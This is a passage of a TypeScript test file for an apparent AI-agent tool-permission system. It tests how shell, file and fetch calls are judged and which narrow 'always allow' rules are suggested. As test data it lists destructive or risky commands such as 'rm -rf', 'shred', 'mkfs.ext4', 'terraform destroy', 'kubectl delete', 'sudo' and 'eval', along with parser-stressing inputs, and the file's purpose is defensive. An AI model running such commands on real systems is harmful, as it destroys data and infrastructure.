        commands: given.commands.map((each) => `${each}\ncurl z`),
        paths: given.paths.length > 0 ? [...given.paths, 'z'] : [],
      };
      fc.pre(given.commands.every((each) => each.trim() !== '' && !/<<|["'`\\(){}]|if|then/.test(each)));
      // What is no whole script, or does nothing, becomes another one.
      const isNone = /^it cannot be read|^there is no command/;
      fc.pre(!given.commands.flatMap(shellParts).some((part) => part.type === 'unknown' && isNone.test(part.why)));
      expect(strictness(judge(more, circumstances))).toBeGreaterThanOrEqual(strictness(judge(given, circumstances)));
    });
  });

  test('what "always" would write lets this call pass, is narrow first, and was not needed before', () => {
    always((given, circumstances) => {
      const choices = narrowestRules(given, circumstances);
      const allowed: number[] = [];
      for (const { rules } of choices) {
        const wider = { ...circumstances, rules: [...circumstances.rules, ...rules] };
        expect(judge(given, wider).decision).toBe('allow');
        expect(newlyAllowed([given], rules, circumstances)).toEqual([given]);
        const others = [
          edit('src/a'),
          edit('src/deep/b'),
          edit('c'),
          shell('npm test'),
          shell('npm test x'),
          shell('rm x'),
          shell('rm -rf x'),
          fetching('https://a.example'),
        ];
        allowed.push(newlyAllowed(others, rules, circumstances).length);
      }
      expect(allowed).toEqual([...allowed].sort((left, right) => left - right));
      if (judge(given, circumstances).decision !== 'ask') expect(choices).toEqual([]);
    });
  });
});

describe('what "always" would write', () => {
  const rules = (given: JudgedCall, circumstances = ASK): unknown =>
    narrowestRules(given, circumstances).map((choice) => [choice.reach, choice.rules]);
  const tool = { decision: 'allow', tool: 'run_shell' };

  test('for a command: itself, then its first words', () => {
    expect(rules(shell('npm test -- --watch'))).toEqual([
      ['this', [{ ...tool, command: 'npm test -- --watch', exact: true }]],
      ['like_this', [{ ...tool, command: 'npm test' }]],
    ]);
    expect(rules(shell('prettier --write "a b"'))).toEqual([
      ['this', [{ ...tool, command: "prettier --write 'a b'", exact: true }]],
      ['like_this', [{ ...tool, command: 'prettier' }]],
    ]);
  });

  test('for one that runs what it is given: only itself', () => {
    for (const each of ['python -c "print(1)"', 'node x.js', 'rm -rf dist', 'bash x.sh'])
      expect(rules(shell(each))).toMatchObject([['this', [{ exact: true }]]]);
  });

  const deciding = `tsx x, ts-node x, pwsh x, dd if=a of=b, shred x, mv a b, cp a b, gh pr list, kubectl exec x, kubectl delete x,
    terraform apply, terraform destroy, deno run x, bun run x, bunx x, npx x, pnpx x, uvx x, pipx x, docker run x,
    podman exec x, ssh host, scp a b, rsync a b, helm install x, aws s3, gcloud x, az x, psql x, mysql x, sqlite3 x,
    make clean, cargo run, go run x, go generate, npm exec x, npm install x, pnpm dlx x, yarn dlx x, uv run x, git bisect run,
    git config x, git push, rm dist, python3.12 x, pip3 install x, mkfs.ext4 x, node.exe x, ./tsx x, make SHELL=x,
    git -C x log, npm run --x y`;
  test.each(deciding.split(/,\s+/))('for %s, whose further words decide: only itself', (given) => {
    expect(rules(shell(given))).toEqual([['this', [{ ...tool, command: given, exact: true }]]]);
  });

  test.each([
    ['git status -s', 'git status'],
    ['npm run build -- x', 'npm run build'],
    ['cargo test x', 'cargo test'],
    ['go vet x', 'go vet'],
    ['make test x', 'make test'],
    ['kubectl get pods', 'kubectl get'],
    ['tsc -p x', 'tsc'],
  ])('for %s: what is like it, too', (given, like) => {
    expect(rules(shell(given))).toMatchObject([
      ['this', [{ exact: true }]],
      ['like_this', [{ command: like }]],
    ]);
  });

  test('for what stands behind another: that', () => {
    expect(rules(shell('timeout 10 npm test && echo done'))).toEqual([
      ['this', [{ ...tool, command: 'npm test', exact: true }]],
      ['like_this', [{ ...tool, command: 'npm test' }]],
    ]);
  });

  test('for several: a rule each, together', () => {
    expect(rules(shell('tsc > log/out.txt'))).toEqual([
      [
        'this',
        [
          { ...tool, path: 'log/out.txt' },
          { ...tool, command: 'tsc', exact: true },
        ],
      ],
      [
        'like_this',
        [
          { ...tool, path: 'log/**' },
          { ...tool, command: 'tsc' },
        ],
      ],
    ]);
  });

  test('for a file: itself, its folder, the tool; signs of globs are literal', () => {
    expect(rules(edit('src/[id].ts'))).toEqual([
      ['this', [{ decision: 'allow', tool: 'edit_file', path: 'src/\\[id\\].ts' }]],
      ['like_this', [{ decision: 'allow', tool: 'edit_file', path: 'src/**' }]],
      ['tool', [{ decision: 'allow', tool: 'edit_file' }]],
    ]);
    expect(rules(edit('README.md'))).toMatchObject([
      ['this', [{ path: '/README.md' }]],
      ['tool', [{}]],
    ]);
  });

  test('for an address: its host', () => {
    expect(rules(fetching('https://A.example/x'))).toMatchObject([
      ['this', [{ host: 'a.example' }]],
      ['tool', [{ tool: 'fetch_url' }]],
    ]);
  });

  test('nothing, where no rule would help', () => {
    for (const each of ['sudo npm test', 'eval x', '$X', 'npm test > "$X"', 'npm "$X"', 'echo hi']) expect(rules(shell(each))).toEqual([]);
    expect(rules(edit('a'), { ...ASK, mode: 'plan' })).toEqual([]);
    expect(rules(edit('a'), { ...ASK, rules: [ask({ path: 'a' })] })).toEqual([]);
    expect(rules(shell('ls'), { ...ASK, sandboxed: false })).toEqual([]);
    expect(rules(shell('ls'), { ...ASK, tainted: true })).toEqual([]);
  });

  test('and which calls it would have let pass', () => {
    const history = [shell('npm test'), shell('npm test x'), shell('npm install'), edit('a')];
    const [narrow, wide] = narrowestRules(shell('npm test'), ASK);
    expect(newlyAllowed(history, narrow?.rules ?? [], ASK)).toEqual([history[0]]);
    expect(newlyAllowed(history, wide?.rules ?? [], ASK)).toEqual([history[0], history[1]]);
  });
});

test('a long script is judged in bounded time', () => {
  for (const each of [
    'a;'.repeat(30_000),
    '$('.repeat(10_000),
    '('.repeat(30_000),
    `${'if a; then '.repeat(2000)}x`,
    `sh -c "${'sh -c \\"'.repeat(50)}"`,
    'x'.repeat(60_000),
  ]) {
    const startedAt = performance.now();
    expect(decided(shell(each), allow({ command: 'a' }))).toMatch(/ask|allow/);
    expect(performance.now() - startedAt).toBeLessThan(2000);
  }
  expect(decided(shell('x'.repeat(100_000)), allow({ tool: '*' }))).toBe('ask');
});
